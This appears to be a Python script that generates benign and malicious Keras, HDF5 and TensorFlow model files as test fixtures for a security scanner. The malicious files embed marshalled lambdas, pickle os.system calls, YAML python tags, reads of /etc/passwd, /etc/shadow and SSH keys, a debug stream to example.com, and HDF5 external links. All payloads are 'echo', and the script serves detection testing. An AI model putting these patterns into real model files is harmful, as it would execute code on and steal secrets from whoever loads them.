#!/usr/bin/env python3
"""Writes the corpus of Keras, TensorFlow, TFLite, GGUF, safetensors and chat templates: malicious/frameworks/{bad,good}/*.

Nothing here is ever loaded; the payload of every bad file is `echo`. Needs h5py, keras (with the torch backend),
flatbuffers and gguf; files of TensorFlow itself are written when it is installed, and kept as they are otherwise:

    python Tests/Fixtures/make_malicious_frameworks.py
    python Tests/Fixtures/make_malicious_frameworks.py tensorflow      # with an interpreter that has TensorFlow
"""
import base64, io, json, marshal, os, shutil, struct, sys, tempfile, zipfile

WITH_TENSORFLOW = sys.argv[1:] == ["tensorflow"]
os.environ["KERAS_BACKEND"] = "tensorflow" if WITH_TENSORFLOW else "torch"
os.environ.setdefault("TF_CPP_MIN_LOG_LEVEL", "3")
HERE = os.path.join(os.path.dirname(os.path.abspath(__file__)), "malicious", "frameworks")
BAD, GOOD = os.path.join(HERE, "bad"), os.path.join(HERE, "good")
INCOMPLETE = os.path.join(HERE, "incomplete")
for folder in (BAD, GOOD, INCOMPLETE):
    os.makedirs(folder, exist_ok=True)
    for name in os.listdir(folder):
        if name.startswith("tf_real") == WITH_TENSORFLOW:
            os.remove(os.path.join(folder, name))


def write(folder, name, data):
    open(os.path.join(folder, name), "wb").write(data.encode() if isinstance(data, str) else data)


def bad(name, data):
    write(BAD, name, data)


def good(name, data):
    write(GOOD, name, data)


def incomplete(name, data):
    write(INCOMPLETE, name, data)


# --- TensorFlow's own output ------------------------------------------------------------------------------------
if WITH_TENSORFLOW:
    import tensorflow as tf

    scratch = tempfile.mkdtemp()
    vocabulary = os.path.join(scratch, "vocab.txt")
    open(vocabulary, "w").write("a\nb\n")

    def graph(module, name, write=good):
        folder = os.path.join(scratch, name)
        tf.saved_model.save(module, folder)
        write(f"tf_real_{name}.pb", open(os.path.join(folder, "saved_model.pb"), "rb").read())
        return folder

    class Dense(tf.Module):
        def __init__(self):
            self.weight = tf.Variable(tf.ones([4, 2]))

        @tf.function(input_signature=[tf.TensorSpec([None, 4], tf.float32)])
        def __call__(self, x):
            return tf.nn.relu(x @ self.weight)

    class Vocabulary(tf.Module):
        def __init__(self):
            source = tf.lookup.TextFileInitializer(
                vocabulary, tf.string, tf.lookup.TextFileIndex.WHOLE_LINE, tf.int64,
                tf.lookup.TextFileIndex.LINE_NUMBER)
            self.table = tf.lookup.StaticVocabularyTable(source, 1)

        @tf.function(input_signature=[tf.TensorSpec([None], tf.string)])
        def __call__(self, x):
            return self.table.lookup(x)

    class ReadsInput(tf.Module):
        @tf.function(input_signature=[tf.TensorSpec([], tf.string)])
        def __call__(self, x):
            return tf.io.decode_raw(tf.io.read_file(x), tf.uint8)

    class Loop(tf.Module):
        @tf.function(input_signature=[tf.TensorSpec([], tf.int32)])
        def __call__(self, n):
            total = tf.constant(0)
            for i in tf.range(n):
                if i % 2 == 0:
                    total += i
            tf.print("total", total)
            return total

    class Writes(tf.Module):
        @tf.function(input_signature=[tf.TensorSpec([1], tf.float32)])
        def __call__(self, x):
            tf.io.write_file(tf.strings.join(["/tmp/", "echo.txt"]), tf.constant("echo"))
            return x

    class ReadsConstant(tf.Module):
        @tf.function(input_signature=[tf.TensorSpec([1], tf.float32)])
        def __call__(self, x):
            return self.inner(tf.constant("/etc/hostname"))

        @tf.function
        def inner(self, path):
            return tf.io.read_file(path)

    class Python(tf.Module):
        @tf.function(input_signature=[tf.TensorSpec([1], tf.float32)])
        def __call__(self, x):
            return tf.py_function(lambda y: y, [x], tf.float32)

    class Branch(tf.Module):
        @tf.function(input_signature=[tf.TensorSpec([], tf.bool)])
        def __call__(self, x):
            return tf.cond(x, lambda: tf.io.read_file("/etc/hostname"), lambda: tf.constant(""))

    class Dataset(tf.Module):
        @tf.function(input_signature=[tf.TensorSpec([], tf.int64)])
        def __call__(self, n):
            data = tf.data.TextLineDataset(["/etc/hostname"])
            return data.reduce(tf.constant(""), lambda a, b: b)

    class Prints(tf.Module):
        @tf.function(input_signature=[tf.TensorSpec([], tf.int64)])
        def __call__(self, n):
            tf.print("echo", output_stream="file:///tmp/echo.txt")
            return n

    graph(Dense(), "dense")
    good("tf_real_fingerprint.pb", open(os.path.join(scratch, "dense", "fingerprint.pb"), "rb").read())
    graph(Vocabulary(), "vocabulary")
    graph(ReadsInput(), "reads_input")
    graph(Loop(), "loop")
    graph(Writes(), "writes", bad)
    graph(ReadsConstant(), "reads_constant", bad)
    graph(Python(), "py_function", bad)
    graph(Branch(), "branch_reads", bad)
    graph(Dataset(), "dataset_reads", bad)
    graph(Prints(), "prints", bad)
    model = tf.keras.Sequential(
        [tf.keras.Input((8, 8, 1)), tf.keras.layers.Conv2D(2, 3), tf.keras.layers.Flatten(), tf.keras.layers.Dense(2)])
    model.export(os.path.join(scratch, "exported"), verbose=False)
    good("tf_real_keras_export.pb", open(os.path.join(scratch, "exported", "saved_model.pb"), "rb").read())
    converter = tf.lite.TFLiteConverter.from_keras_model(model)
    good("tf_real_cnn.tflite", converter.convert())
    converter.optimizations = [tf.lite.Optimize.DEFAULT]
    good("tf_real_cnn_int8.tflite", converter.convert())
    dense = Dense()
    converter = tf.lite.TFLiteConverter.from_concrete_functions([dense.__call__.get_concrete_function()])
    good("tf_real_dense.tflite", converter.convert())

    class Cell(tf.Module):
        @tf.function(input_signature=[tf.TensorSpec([], tf.int32)])
        def __call__(self, n):
            return tf.while_loop(lambda i: i < n, lambda i: i + 2, [tf.constant(0)])[0]

    cell = Cell()
    converter = tf.lite.TFLiteConverter.from_concrete_functions([cell.__call__.get_concrete_function()])
    good("tf_real_while.tflite", converter.convert())

    class Flex(tf.Module):
        @tf.function(input_signature=[tf.TensorSpec([], tf.string)])
        def __call__(self, x):
            return tf.io.read_file(x)

    flex = Flex()
    converter = tf.lite.TFLiteConverter.from_concrete_functions([flex.__call__.get_concrete_function()])
    converter.target_spec.supported_ops = [tf.lite.OpsSet.TFLITE_BUILTINS, tf.lite.OpsSet.SELECT_TF_OPS]
    bad("tf_real_flex.tflite", converter.convert())
    with tf.Graph().as_default() as frozen:
        x = tf.compat.v1.placeholder(tf.float32, [None, 2], name="x")
        tf.identity(tf.nn.softmax(x @ tf.ones([2, 2])), name="y")
        good("tf_real_frozen.pb", frozen.as_graph_def().SerializeToString())
        good("tf_real_frozen.pbtxt", str(frozen.as_graph_def()))
        v = tf.compat.v1.get_variable("v", [2])
        tf.compat.v1.train.Saver()
        good("tf_real_saver.pb", frozen.as_graph_def().SerializeToString())
        good("tf_real_checkpoint.meta", tf.compat.v1.train.export_meta_graph().SerializeToString())
    with tf.Graph().as_default() as frozen:
        tf.io.read_file("/etc/hostname", name="y")
        bad("tf_real_frozen_reads.pb", frozen.as_graph_def().SerializeToString())
        bad("tf_real_frozen_reads.pbtxt", str(frozen.as_graph_def()))
    shutil.rmtree(scratch)
    sys.exit(0)

import h5py
import numpy as np

# --- Keras: configurations --------------------------------------------------------------------------------------
CODE = base64.b64encode(marshal.dumps(compile("print('echo')", "x", "exec"))).decode()
LAMBDA = {"class_name": "__lambda__", "config": {"code": CODE, "defaults": None, "closure": None}}


def layer(name, config=None, module="keras.layers", registered=None, **more):
    return {"module": module, "class_name": name, "config": config or {}, "registered_name": registered, **more}


def sequential(*layers, **more):
    first = layer("InputLayer", {"batch_shape": [None, 4], "dtype": "float32", "name": "input"})
    return layer("Sequential", {"name": "sequential", "layers": [first, *layers]}, "keras", **more)


def function(name, module="builtins"):
    return {"module": module, "class_name": "function", "config": name, "registered_name": "function"}


def weights():
    buffer = io.BytesIO()
    with h5py.File(buffer, "w") as file:
        file.create_dataset("layers/dense/vars/0", data=np.ones((2, 2), "float32"))
    return buffer.getvalue()


def zipped(*files):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as file:
        for name, data in files:
            file.writestr(zipfile.ZipInfo(name, (1980, 1, 1, 0, 0, 0)), data)
    return buffer.getvalue()


def archive(config, extra=(), weight=None):
    return zipped(
        ("metadata.json", json.dumps({"keras_version": "3.9.0", "date_saved": "2026-01-01@00:00:00"})),
        ("config.json", config if isinstance(config, (bytes, str)) else json.dumps(config)),
        ("model.weights.h5", weight or weights()), *extra)


def h5(config=None, training=None, body=None, **options):
    with tempfile.NamedTemporaryFile(suffix=".h5") as scratch:
        with h5py.File(scratch.name, "w", **options) as file:
            file.attrs["keras_version"] = "2.15.0"
            file.attrs["backend"] = "tensorflow"
            if config is not None:
                file.attrs["model_config"] = config if isinstance(config, (bytes, str)) else json.dumps(config)
            if training is not None:
                file.attrs["training_config"] = json.dumps(training)
            group = file.create_group("model_weights")
            group.create_dataset("dense/kernel:0", data=np.ones((2, 2), "float32"))
            if body:
                body(file)
        return open(scratch.name, "rb").read()


legacy = {"class_name": "Sequential", "config": {"name": "s", "layers": [
    {"class_name": "Lambda", "config": {
        "name": "l", "function": [CODE, None, None], "function_type": "lambda", "module": "__main__",
        "output_shape": None, "output_shape_type": "raw", "arguments": {}}}]}}
bad("ker001_lambda.h5", h5(legacy))
bad("ker001_lambda_latest.h5", h5(legacy, libver="latest"))
bad("ker001_lambda_bytes.h5", h5(json.dumps(legacy).encode()))
bad("ker001_training_loss.h5", h5(sequential(), {"loss": LAMBDA}))
bad("ker001_lambda.keras", archive(sequential(layer("Lambda", {"function": LAMBDA}))))
bad("ker001_time_distributed.keras", archive(sequential(layer("TimeDistributed", {"layer": layer("Lambda", {"function": LAMBDA})}))))
bad("ker001_bidirectional.keras", archive(sequential(layer(
    "Bidirectional", {"layer": layer("LSTM"), "backward_layer": layer("Lambda", {"function": LAMBDA})}))))
bad("ker001_nested_model.keras", archive(sequential(sequential(sequential(layer("Lambda", {"function": LAMBDA}))))))
bad("ker001_loss.keras", archive(sequential(compile_config={"loss": LAMBDA})))
bad("ker001_metric.keras", archive(sequential(compile_config={"metrics": [[LAMBDA]]})))
bad("ker001_initializer.keras", archive(sequential(layer("Dense", {"units": 2, "kernel_initializer": LAMBDA}))))
bad("ker001_regularizer.keras", archive(sequential(layer("Dense", {"units": 2, "activity_regularizer": LAMBDA}))))
bad("ker001_unknown_wrapper.keras", archive(sequential(layer("Wrap", {"whatever": {"deep": [1, {"x": LAMBDA}]}}, None, "Custom>Wrap"))))
bad("ker001_tuple.keras", archive(sequential(layer("Lambda", {
    "function": {"class_name": "__tuple__", "items": [CODE, None, None]}, "function_type": "lambda"}))))
bad("ker001_output_shape.h5", h5({"class_name": "Sequential", "config": {"layers": [{"class_name": "Lambda", "config": {
    "function": "relu", "function_type": "function", "output_shape": [CODE, None, None], "output_shape_type": "lambda"}}]}}))
bad("ker001_duplicate_key.keras", archive(
    '{"module":"keras","class_name":"Sequential","config":{"layers":[]},"config":'
    + json.dumps({"layers": [layer("Lambda", {"function": LAMBDA})]}) + "}"))
bad("ker001_escaped.keras", archive(json.dumps(sequential(layer("Lambda", {"function": LAMBDA}))).replace("__lambda__", "__l\\u0061mbda__").replace("class_name", "cl\\u0061ss_name")))
bad("ker001_utf16.keras", archive(json.dumps(sequential(layer("Lambda", {"function": LAMBDA}))).encode("utf-16")))
bad("ker001_config.json", json.dumps(sequential(layer("Lambda", {"function": LAMBDA}))))
bad("ker001_qualified_name.keras", archive(sequential(layer("keras.layers.Lambda", {"function": [CODE, None, None], "function_type": "lambda"}))))
bad("ker001_lambda.yaml", f"class_name: Sequential\nconfig:\n- class_name: Lambda\n  config:\n    function: [{CODE!r}, null, null]\n    function_type: lambda\n")
bad("ker001_root_list.keras", archive([1, layer("Lambda", {"function": LAMBDA})]))
bad("ker001_text_in_text.keras", archive(sequential(layer("Dense", {"units": 1, "inner": json.dumps(layer("Lambda", {"function": LAMBDA}))}))))
bad("ker001_infinity.keras", archive(json.dumps(sequential(layer("Lambda", {"function": LAMBDA, "x": float("inf")})))))
bad("ker006_shards.keras", archive(sequential(layer("StringLookup", {"vocabulary": "~/.ssh/id_rsa"}))))
bad("ker001_group_attribute.h5", h5(sequential(), body=lambda f: f["model_weights"].attrs.__setitem__("model_config", json.dumps(legacy))))
bad("ker002_subprocess.keras", archive(sequential(layer("Lambda", {"function": function("run", "subprocess"), "arguments": {"args": ["echo"]}}))))
bad("ker002_os_system.keras", archive(sequential(layer("Lambda", {"function": function("system", "os")}))))
bad("ker002_class.keras", archive(sequential(layer("Popen", {"args": ["echo"]}, "subprocess"))))
bad("ker002_eval.keras", archive(sequential(layer("Dense", {"units": 1, "activation": function("eval")}))))
bad("ker002_import.keras", archive(sequential(compile_config={"loss": function("import_module", "importlib")})))
bad("ker002_unknown.keras", archive(sequential(layer("Evil", {}, "evil_package.backdoor", "Evil"))))
bad("ker002_unknown_function.keras", archive(sequential(layer("Dense", {"units": 1, "activation": function("run", "helper")}))))
bad("ker002_webbrowser.h5", h5(sequential(layer("Dense", {"units": 1, "activation": function("open", "webbrowser")}))))
bad("ker002_module_first.keras", archive(sequential(layer("Lambda", {"function": {
    "class_name": "function", "config": "system", "module": "posix"}}))))
bad("ker002_typespec.keras", archive(sequential(layer("InputLayer", {"spec": {
    "class_name": "__typespec__", "spec_name": "Popen", "module": "subprocess", "config": ["echo"]}}))))
bad("ker002_numpy_load.keras", archive(sequential(layer("Lambda", {"function": function("load", "numpy")}))))
bad("ker002_named_h5.h5", h5({"class_name": "Sequential", "config": {"layers": [{"class_name": "Lambda", "config": {
    "function": "system", "function_type": "function", "module": "os"}}]}}))
bad("ker002_model.yaml", "backend: tensorflow\nclass_name: Sequential\nconfig: !!python/object/apply:os.system ['echo']\n")
bad("ker003_get_file.keras", archive(sequential(layer("Lambda", {
    "function": function("get_file", "keras.utils"), "arguments": {"origin": "https://example.com/x.tar", "extract": True}}))))
bad("ker003_file_utils.keras", archive(sequential(layer("Lambda", {"function": function("get_file", "keras.src.utils.file_utils")}))))
bad("ker003_load_model.keras", archive(sequential(layer("Lambda", {"function": function("load_model", "keras.models")}))))
bad("ker003_func_load.keras", archive(sequential(layer("Lambda", {"function": function("func_load", "keras.src.utils.python_utils")}))))
bad("ker003_tfsm.keras", archive(sequential(layer("TFSMLayer", {"filepath": "saved_model", "call_endpoint": "serve"}))))
bad("ker003_reexport.keras", archive(sequential(layer("Lambda", {"function": function("os", "keras.src.utils.file_utils")}))))
bad("ker003_importlib.keras", archive(sequential(layer("Lambda", {"function": function("import_module", "keras.src.saving.serialization_lib.importlib")}))))
bad("ker003_py_function.keras", archive(sequential(layer("Lambda", {"function": function("py_function", "tensorflow")}))))
bad("ker003_op_lambda.h5", h5({"class_name": "Functional", "config": {"layers": [
    {"class_name": "TFOpLambda", "config": {"name": "w", "function": "io.write_file"}, "inbound_nodes": [["/tmp/x", 0, 0, {"contents": "echo"}]]}]}}))
bad("ker004_switch.keras", archive(sequential(
    layer("Lambda", {"function": function("enable_unsafe_deserialization", "keras.config")}), layer("Lambda", {"function": LAMBDA}))))
bad("ker004_switch_only.keras", archive(sequential(layer("Dense", {"units": 1, "activation": function(
    "enable_unsafe_deserialization", "keras.src.saving.serialization_lib")}))))
pickled = base64.b64encode(b"\x80\x04\x8c\x02os\x8c\x06system\x93\x8c\x04echo\x85R.").decode()
bad("ker005_torch.keras", archive(sequential(layer("TorchModuleWrapper", {"module": pickled}))))
bad("ker005_torch_bytes.keras", archive(sequential(layer("TorchModuleWrapper", {"module": {
    "class_name": "__bytes__", "config": {"value": pickled}}}, "keras.src.utils.torch_utils"))))
for name, path in [("absolute", "/etc/passwd"), ("climbs", "../../secrets.txt"), ("url", "https://example.com/v.txt"),
                   ("windows", "C:\\Windows\\win.ini"), ("bucket", "gs://bucket/vocab.txt"), ("file_url", "file:///etc/passwd")]:
    bad(f"ker006_{name}.keras", archive(sequential(layer("StringLookup", {"vocabulary": path}))))
bad("ker006_text.h5", h5(sequential(layer("TextVectorization", {"vocabulary": "/etc/hostname"}))))
bad("ker006_integer.keras", archive(sequential(layer("IntegerLookup", {"vocabulary": "/etc/hostname"}))))


def external_link(file):
    file["layers"] = h5py.ExternalLink("/etc/hostname", "/x")


def external_storage(file):
    file.create_dataset("secret", (4,), "u1", external=[("/etc/hostname", 0, 4)])


def virtual(file):
    layout = h5py.VirtualLayout((4,), "u1")
    layout[:] = h5py.VirtualSource("/tmp/other.h5", "x", shape=(4,))
    file.create_virtual_dataset("virtual", layout)


def own_virtual(file):
    file.create_dataset("source", data=np.ones(4, "u1"))
    layout = h5py.VirtualLayout((4,), "u1")
    layout[:] = h5py.VirtualSource(".", "source", shape=(4,))
    file.create_virtual_dataset("virtual", layout)


def deep_link(file):
    group = file
    for number in range(12):
        group = group.create_group(f"g{number}")
    group["x"] = h5py.ExternalLink("../other.h5", "/x")


def many_links(file):
    group = file.create_group("dense_group")
    for number in range(60):
        group[f"soft{number}"] = h5py.SoftLink("/model_weights")
    group["x"] = h5py.ExternalLink("other.h5", "/x")


def soft_links(file):
    file["alias"] = h5py.SoftLink("/model_weights/dense")
    file["hard"] = file["model_weights"]


bad("ker007_link.h5", h5(sequential(), body=external_link))
bad("ker007_link_latest.h5", h5(sequential(), body=external_link, libver="latest"))
bad("ker007_storage.h5", h5(sequential(), body=external_storage))
bad("ker007_virtual.h5", h5(sequential(), body=virtual, libver="latest"))
bad("ker007_deep.h5", h5(sequential(), body=deep_link))
bad("ker007_dense_group.h5", h5(sequential(), body=many_links, libver="latest"))
bad("ker007_old_group.h5", h5(sequential(), body=many_links))
bad("ker007_weights.keras", archive(sequential(), weight=h5(None, body=external_storage)))
bad("ker007_user_block.h5", h5(sequential(), body=external_link, userblock_size=512))
CALL = b"\x80\x04\x8c\x02os\x8c\x06system\x93\x8c\x04echo\x85R."
bad("user_block_pickle.h5", CALL + h5(sequential(), userblock_size=512)[len(CALL):])
good("soft_links.h5", h5(sequential(), body=soft_links))
good("own_virtual.h5", h5(sequential(), body=own_virtual, libver="latest"))
good("user_block.h5", h5(sequential(), userblock_size=512))


def committed(file):
    file["type"] = np.dtype("float32")
    file.create_dataset("named", data=np.ones(3, "float32"), dtype=file["type"])


good("committed_type.h5", h5(sequential(), body=committed))
good("weights_only.weights.h5", weights())
good("legacy_named_lambda.h5", h5({"class_name": "Sequential", "config": {"layers": [{"class_name": "Lambda", "config": {
    "function": "scale", "function_type": "function", "module": "__main__", "output_shape": None, "output_shape_type": "raw"}}]}}))
good("legacy_op_lambda.h5", h5({"class_name": "Functional", "config": {"name": "m", "layers": [
    {"class_name": "TFOpLambda", "config": {"name": "tf.math.add", "function": "math.add"}},
    {"class_name": "TFOpLambda", "config": {"name": "op", "function": "__operators__.add"}},
    {"class_name": "SlicingOpLambda", "config": {"name": "s", "function": "__operators__.getitem"}}]}}))
good("infinity.h5", h5('{"class_name": "Sequential", "config": {"layers": [{"class_name": "ReLU", "config": {"max_value": Infinity, "x": NaN}}]}}'))
good("known_package.h5", h5(sequential(layer("KerasLayer", {"handle": "x"}, "tensorflow_hub", "KerasLayer"))))
good("relative_vocabulary.keras", archive(sequential(layer("StringLookup", {"vocabulary": "vocab.txt"}))))
good("listed_vocabulary.keras", archive(sequential(layer("StringLookup", {"vocabulary": ["/etc/passwd", "../x", "os.system"]}))))
good("assets.keras", archive(sequential(layer("TextVectorization", {"vocabulary": None})), [("assets/layers/text/vocabulary.txt", "a\nb\n")]))
good("registered.keras", archive(sequential(layer("Mine", {"units": 3}, "my_project.layers", "MyPackage>Mine"))))
whole = h5(sequential())
for part in (3, 2):
    incomplete(f"half_{part}.h5", whole[: len(whole) * (part - 1) // part])
incomplete("deep.keras", archive("[" * 300 + "]" * 300))
incomplete("broken_config.h5", h5('{"class_name": "Sequential", "config": '))

# --- Keras: files that Keras itself writes ----------------------------------------------------------------------
import keras

scratch = tempfile.mkdtemp()


@keras.saving.register_keras_serializable(package="Mine")
class Scale(keras.layers.Layer):
    def __init__(self, factor=2.0, **options):
        super().__init__(**options)
        self.factor = factor

    def call(self, x):
        return x * self.factor

    def get_config(self):
        return {**super().get_config(), "factor": self.factor}


@keras.saving.register_keras_serializable(package="Mine")
def squared(x):
    return x * x


def plain_loss(a, b):
    return keras.ops.mean(keras.ops.square(a - b))


L = keras.layers
cnn = keras.Sequential([keras.Input((8, 8, 3)), L.Conv2D(4, 3, activation="relu"), L.BatchNormalization(), L.MaxPooling2D(),
                        L.Flatten(), L.Dropout(0.1), L.Dense(3, activation="softmax", kernel_regularizer="l2")])
cnn.compile("adam", "sparse_categorical_crossentropy", metrics=["accuracy"])
a = keras.Input((4,), name="a")
inner = keras.Sequential([keras.Input((4,)), L.Dense(4, activation="gelu"), L.LayerNormalization()], name="inner")
b = L.Add()([inner(a), L.Dense(4)(a)])
functional = keras.Model(a, [L.Dense(1, name="x")(b), keras.ops.relu(b)], name="nested")
functional.compile(keras.optimizers.SGD(0.1), loss=[keras.losses.Huber(), None])
words = keras.Input((6,), dtype="int32")
recurrent = keras.Model(words, L.Dense(2)(L.Bidirectional(L.LSTM(3))(L.Embedding(10, 4, mask_zero=True)(words))))
custom = keras.Sequential([keras.Input((4,)), Scale(3.0), L.Dense(2, activation=squared), L.Dense(2)])
custom.compile("rmsprop", loss=plain_loss)
attention = keras.Input((5, 8))
transformer = keras.Model(attention, L.LayerNormalization()(L.MultiHeadAttention(2, 4)(attention, attention) + attention))
for name, model in [("cnn", cnn), ("functional", functional), ("recurrent", recurrent), ("custom", custom), ("transformer", transformer)]:
    for extension in ("keras", "h5"):
        path = os.path.join(scratch, f"real_{name}.{extension}")
        try:
            model.save(path)
        except Exception as problem:
            print(name, extension, problem)
            continue
        good(os.path.basename(path), open(path, "rb").read())
    good(f"real_{name}.json", model.to_json())
path = os.path.join(scratch, "real.weights.h5")
cnn.save_weights(path)
good("real_cnn.weights.h5", open(path, "rb").read())
shutil.rmtree(scratch)


# --- TensorFlow: protobuf by hand -------------------------------------------------------------------------------
def varint(value):
    out = b""
    while value >= 0x80:
        out, value = out + bytes([value & 0x7F | 0x80]), value >> 7
    return out + bytes([value])


def field(number, data):
    if isinstance(data, int):
        return varint(number << 3) + varint(data)
    data = data.encode() if isinstance(data, str) else data
    return varint(number << 3 | 2) + varint(len(data)) + data


def attribute(key, value):
    return field(5, field(1, key) + field(2, value))


def node(name, op, inputs=(), attributes=b""):
    return field(1, name) + field(2, op) + b"".join(field(3, i) for i in inputs) + attributes


def const(name, *texts):
    return node(name, "Const", (), attribute("dtype", field(6, 7)) + attribute(
        "value", field(8, field(1, 7) + b"".join(field(8, t) for t in texts))))


def graph_def(nodes, functions=()):
    library = field(2, b"".join(field(1, f) for f in functions)) if functions else b""
    return b"".join(field(1, n) for n in nodes) + library + field(4, field(1, 1882))


def function_def(name, arguments, nodes, results=()):
    signature = field(1, name) + b"".join(field(2, field(1, a) + field(3, 7)) for a in arguments)
    return field(1, signature) + b"".join(field(3, n) for n in nodes) + b"".join(
        field(4, field(1, f"r{i}") + field(2, r)) for i, r in enumerate(results))


def saved_model(graph, assets=(), objects=b""):
    information = field(1, field(4, "serve") + field(5, "2.21.0") + field(6, "unknown"))
    more = b"".join(field(6, field(1, field(1, tensor)) + field(2, file)) for tensor, file in assets)
    return field(1, 1) + field(2, information + field(2, graph) + more + (field(7, objects) if objects else b""))


placeholder = node("x", "Placeholder", (), attribute("dtype", field(6, 7)))


def call(name, function, inputs=(), op="StatefulPartitionedCall"):
    return node(name, op, inputs, attribute("f", field(10, field(1, function))))


for op in ("PyFunc", "PyFuncStateless", "EagerPyFunc"):
    bad(f"tf001_{op.lower()}.pb", saved_model(graph_def([placeholder, node("p", op, ["x"])])))
bad("tf001_library.pb", saved_model(graph_def([placeholder, call("c", "f", ["x"])], [function_def("f", ["a"], [node("p", "PyFunc", ["a"])])])))
bad("tf001_unused_function.pb", saved_model(graph_def([placeholder], [function_def("f", ["a"], [node("p", "EagerPyFunc", ["a"])])])))
bad("tf001_frozen.pb", graph_def([placeholder, node("p", "PyFunc", ["x"])]))
bad("tf001_text.pbtxt", 'saved_model_schema_version: 1\nmeta_graphs { graph_def {\n  node { name: "p" op: "PyFunc" attr { key: "token" value { s: "pyfunc_0" } } }\n} }\n')
bad("tf002_write.pb", saved_model(graph_def([const("p", "/root/.bashrc"), const("d", "echo"), node("w", "WriteFile", ["p", "d"])])))
bad("tf002_read.pb", saved_model(graph_def([const("p", "/etc/passwd"), node("i", "Identity", ["p"]), node("w", "ReadFile", ["i"])])))
bad("tf002_join.pb", saved_model(graph_def([const("a", "/etc"), const("b", "passwd"), node("j", "StringJoin", ["a", "b"]), node("w", "ReadFile", ["j:0"])])))
bad("tf002_function_argument.pb", saved_model(graph_def([const("p", "/etc/passwd"), call("c", "f", ["p"])], [function_def("f", ["path"], [node("r", "ReadFile", ["path"])])])))
bad("tf002_function_result.pb", saved_model(graph_def([call("c", "f"), node("r", "ReadFile", ["c"])], [function_def("f", [], [const("p", "/etc/passwd")], ["p:output:0"])])))
bad("tf002_branch.pb", saved_model(graph_def([placeholder, const("p", "/etc/passwd"), node("c", "If", ["x", "p"], attribute("then_branch", field(10, field(1, "f"))) + attribute("else_branch", field(10, field(1, "g"))))],
    [function_def("f", ["path"], [node("r", "ReadFile", ["path"])]), function_def("g", ["path"], [node("i", "Identity", ["path"])])])))
bad("tf002_prefix.pb", saved_model(graph_def([placeholder, const("a", "/etc/"), node("j", "StringJoin", ["a", "x"]), node("w", "WriteFile", ["j", "x"])])))
bad("tf002_matching.pb", saved_model(graph_def([const("p", "/home/*/.ssh/id_rsa"), node("m", "MatchingFiles", ["p"])])))
bad("tf002_print.pb", saved_model(graph_def([const("t", "echo"), node("p", "PrintV2", ["t"], attribute("output_stream", field(2, "file:///root/.bashrc")))])))
bad("tf002_debug.pb", saved_model(graph_def([placeholder, node("p", "DebugIdentityV2", ["x"], attribute("debug_urls", field(1, field(2, "grpc://example.com:1"))))])))
bad("tf002_immutable.pb", saved_model(graph_def([node("p", "ImmutableConst", [], attribute("memory_region_name", field(2, "/etc/passwd")))])))
bad("tf002_asset.pb", saved_model(graph_def([placeholder]), [("a:0", "../../../etc/passwd")]))
bad("tf002_table.pb", saved_model(graph_def([node("t", "HashTableV2"), const("p", "/etc/passwd"), node("i", "InitializeTableFromTextFileV2", ["t", "p"])])))
bad("tf002_save.pb", saved_model(graph_def([const("p", "/root/.bashrc"), node("s", "SaveV2", ["p"])])))
bad("tf002_restore.pb", saved_model(graph_def([const("p", "/etc/shadow"), node("s", "RestoreV2", ["p"])])))
bad("tf002_dataset.pb", saved_model(graph_def([const("p", "/etc/passwd"), node("d", "TFRecordDataset", ["p"])])))
bad("tf002_default.pb", saved_model(graph_def([const("p", "/etc/passwd"), node("d", "PlaceholderWithDefault", ["p"]), node("r", "ReadFile", ["d"])])))
bad("tf002_function_as_operator.pb", saved_model(graph_def([const("p", "/etc/passwd"), node("c", "f", ["p"])], [function_def("f", ["path"], [node("r", "ReadFile", ["path"])])])))
bad("tf002_dataset_map.pb", saved_model(graph_def([const("p", "/etc/passwd"), node("s", "TensorSliceDataset", ["p"]), node("m", "MapDataset", ["s"], attribute("f", field(10, field(1, "f"))))],
    [function_def("f", ["path"], [node("r", "ReadFile", ["path"])])])))
bad("tf002_decoded.pb", saved_model(graph_def([const("p", "L2V0Yy9wYXNzd2Q"), node("d", "DecodeBase64", ["p"]), node("r", "ReadFile", ["d"])])))
bad("tf002_variable.pb", saved_model(graph_def([node("v", "VarHandleOp"), node("p", "ReadVariableOp", ["v"]), node("r", "ReadFile", ["p"])])))
bad("tf002_text.pbtxt", 'node { name: "p" op: "Const" attr { key: "value" value { tensor { dtype: DT_STRING string_val: "/etc/passwd" } } } }\nnode { name: "r" op: "ReadFile" input: "p" }\n')
metadata = {"class_name": "Lambda", "config": {"function": {"class_name": "__tuple__", "items": [CODE, None, None]}, "function_type": "lambda"}}
bad("ker001_keras_metadata.pb", field(1, field(2, 1) + field(3, "root.layer") + field(4, "_tf_keras_layer") + field(5, json.dumps(metadata))))
bad("ker001_object_graph.pb", saved_model(graph_def([placeholder]), objects=field(1, field(4, field(1, "_tf_keras_layer") + field(3, json.dumps(metadata))))))
good("keras_metadata.pb", field(1, field(2, 1) + field(3, "root.layer") + field(4, "_tf_keras_layer") + field(5, json.dumps({"class_name": "Dense", "config": {"units": 2}}))))
good("tf_reads_placeholder.pb", saved_model(graph_def([placeholder, node("r", "ReadFile", ["x"]), node("d", "DecodeJpeg", ["r"])])))
good("tf_saver.pb", saved_model(graph_def([const("m", "model"), node("f", "PlaceholderWithDefault", ["m"]), node("c", "PlaceholderWithDefault", ["f"]), node("s", "SaveV2", ["c"]), node("r", "RestoreV2", ["c"])])))
good("tf_asset.pb", saved_model(graph_def([node("t", "HashTableV2"), const("a", "/home/me/vocab.txt"), node("i", "InitializeTableFromTextFileV2", ["t", "a"])]), [("a:0", "vocab.txt")]))
good("tf_text_constants.pb", saved_model(graph_def([const("p", "/etc/passwd", "os.system", "PyFunc"), node("e", "StringLower", ["p"]), node("q", "PrintV2", ["e"], attribute("output_stream", field(2, "stderr")))])))
good("tf_cache_in_memory.pb", saved_model(graph_def([placeholder, const("e", ""), node("d", "TensorSliceDataset", ["x"]), node("c", "CacheDataset", ["d", "e"])])))
good("tf_text.pbtxt", 'node { name: "x" op: "Placeholder" }\nnode { name: "y" op: "Relu" input: "x" }\n')
whole = saved_model(graph_def([placeholder, const("p", "/etc/x")] + [node(f"n{i}", "Relu", ["x"]) for i in range(20)]))
incomplete("cut_saved_model.pb", whole[:-30])
incomplete("cut_graph.pbtxt", 'node { name: "x" op: "Placeholder" }\nnode { name: "y" op: "Re')

# --- TensorFlow Lite --------------------------------------------------------------------------------------------
import flatbuffers


def vector(b, offsets):
    b.StartVector(4, len(offsets), 4)
    for offset in reversed(offsets):
        b.PrependUOffsetTRelative(offset)
    return b.EndVector()


def ints(b, numbers):
    b.StartVector(4, len(numbers), 4)
    for number in reversed(numbers):
        b.PrependInt32(number)
    return b.EndVector()


